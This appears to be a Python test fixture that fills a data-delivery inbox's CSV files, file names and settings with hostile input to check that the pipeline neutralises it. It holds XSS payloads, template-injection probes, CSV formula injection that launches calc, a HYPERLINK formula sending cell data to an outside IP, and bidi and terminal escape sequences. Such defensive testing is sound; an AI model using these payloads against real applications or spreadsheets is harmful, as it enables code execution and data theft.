"""A delivery in which every text attacks whoever reads it: markup, formulas, turned direction, signs for a terminal, great length."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from data_contracts.contract import KINDS, kind_of, load_contract
from tests.acceptance.monthly import LAST_DELIVERY, Programme, deliver

MARKUP = "<script>window.__x=1</script><img src=x onerror=window.__x=2><a href='javascript:window.__x=3'>x</a>\"'&{{7*7}}"
FORMULA = "=cmd|' /C calc'!A0"
TURNED = "\u202enosrep\u2066\u200f"
TERMINAL = "\x1b[2J\x1b]0;x\x07"
LONG = "x" * 10_000
ATTACKS = (
    MARKUP,
    FORMULA,
    "+1+cmd()",
    "-1+cmd()",
    "@SUM(1;1)",
    '=HYPERLINK("http://203.0.113.1/?"&A1;"x")',
    f"navn{TURNED}",
    f"navn{TERMINAL}",
    LONG,
)
SUPPLIER = "<img src=x onerror=window.__x=4>"
NAME = "Små Job & <b onmouseover=window.__x=5>Mening</b> {{7*7}} #panic() $x$"
"""What the programme calls itself."""
CANARY = "window.__x"
TURNING = "\u202e\u2066\u200f\x1b\x07"


def hostile_inbox(inbox: Path) -> Path:
    """A delivery of every kind beside a good one, by a supplier of such a name; every free text of the good one is an attack, too."""
    deliver(inbox, Programme.usual(), LAST_DELIVERY)
    for path in sorted(inbox.rglob("*.csv")):
        _rewritten(path)
    settings = inbox / "programme.toml"
    settings.write_text(settings.read_text().replace("[programme]", f"[programme]\nname = '''{NAME}'''"), encoding="utf-8")
    folder = inbox / SUPPLIER / LAST_DELIVERY.isoformat()
    folder.mkdir(parents=True)
    for name in ("henvisninger", "loentimer", "ansaettelser", "virksomheder", "omkostninger", "fakturaer", "trivsel"):
        contract = load_contract(str(kind_of(f"{name}.csv")))
        header = [column.headers[1] for column in contract.read_columns]
        rows = [[attack for _ in header] for attack in ATTACKS]
        _write(folder / f"{name} {MARKUP.replace('/', '')[:60]}.csv", [[*header, MARKUP], *([*row, LONG] for row in rows)])
        _write(folder / f"{name} ={FORMULA[1:4]}.csv", [[header[0], MARKUP, FORMULA], *rows])
    (folder / f"ukendt{TURNED}{TERMINAL}.csv").write_text("x")
    _write(
        inbox / "fokus" / LAST_DELIVERY.isoformat() / "rettelser.csv",
        [
            [
                "Rettelse-id", "Fil", "Leverandør", "CPR-nummer", "Nøglekolonne", "Nøgleværdi", "Kolonne", "Forventet", "Rettet",
                "Begrundelse", "Rolle", "Dato",
            ],
            [
                MARKUP[:40], "løntimer", "aalborg", list(Programme.usual().persons)[1], "Måned", "03-2023", "Løntimer", "44,00", "64,00",
                MARKUP, FORMULA, "10-06-2023",
            ],
        ],
    )  # fmt: skip
    return inbox


def _rewritten(path: Path) -> None:
    """Each free text of a good file becomes an attack, the rows stay good."""
    kind = kind_of(path.name)
    contract = load_contract(str(kind))
    free = {"job_function", "name", "sector", "purpose", "financing_municipality"} if kind in KINDS else set()
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8")), delimiter=";"))
    names = {header: column.name for column in contract.read_columns for header in column.headers}
    places = [place for place, cell in enumerate(rows[0]) if names.get(cell) in free]
    for number, row in enumerate(rows[1:]):
        for place in places:
            row[place] = ATTACKS[number % len(ATTACKS)]
    _write(path, [[*rows[0], MARKUP], *([*row, FORMULA] for row in rows[1:])])


def _write(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, delimiter=";").writerows(rows)
